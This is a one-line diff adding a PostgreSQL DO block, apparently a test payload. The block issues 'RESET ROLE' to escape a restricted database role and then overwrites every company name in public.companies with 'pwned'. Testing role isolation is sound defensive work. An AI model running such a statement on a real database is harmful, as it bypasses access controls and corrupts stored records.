@@ -1,0 +1,1 @@
+DO $$ BEGIN EXECUTE 'RESET ROLE'; EXECUTE 'UPDATE public.companies SET name = ''pwned'''; END $$;
